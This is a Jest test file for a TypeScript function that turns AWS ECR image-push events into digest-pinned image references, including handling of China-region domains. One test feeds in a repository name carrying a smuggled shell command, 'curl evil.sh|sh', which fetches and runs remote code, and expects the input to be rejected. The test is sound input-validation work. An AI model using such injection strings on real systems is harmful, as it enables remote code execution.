import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { classifyGateEvent } from '../../../functions/core/events';

/** The project's own event fixtures (test/fixtures/events), for shapes the conformance set has no sample of. */
const fixture = (name: string): unknown => JSON.parse(readFileSync(join(__dirname, '../../fixtures/events', name), 'utf8'));
const options = { scanProjectName: 'fargate-gate-scan' };

describe('ECR Image Action', () => {
  it('reads an ECR push into a digest-pinned reference', () => {
    expect(classifyGateEvent(fixture('ecr-image-action-push.json'), options)).toEqual({
      kind: 'imagePushed',
      meta: expect.objectContaining({ id: 'f1e2d3c4-b5a6-4978-8695-a4b3c2d1e0f9' }),
      digest: 'sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0',
      imageReference: '123456789012.dkr.ecr.eu-west-1.amazonaws.com/shop/web@sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0',
      repositoryName: 'shop/web',
      tag: '2026.01.05',
    });
  });

  it('uses the .amazonaws.com.cn registry domain in China regions', () => {
    const raw = fixture('ecr-image-action-push.json') as Record<string, unknown>;
    raw.region = 'cn-north-1';
    expect(classifyGateEvent(raw, options)).toMatchObject({ imageReference: expect.stringMatching(/^123456789012\.dkr\.ecr\.cn-north-1\.amazonaws\.com\.cn\/shop\/web@/) });
  });

  it('rejects a pushed repository name that is not a repository name', () => {
    const raw = fixture('ecr-image-action-push.json') as { detail: Record<string, unknown> };
    raw.detail['repository-name'] = 'shop/web;curl evil.sh|sh';
    expect(classifyGateEvent(raw, options)).toMatchObject({ kind: 'ignored', malformed: true, reason: expect.stringContaining('repository-name') });
  });
});
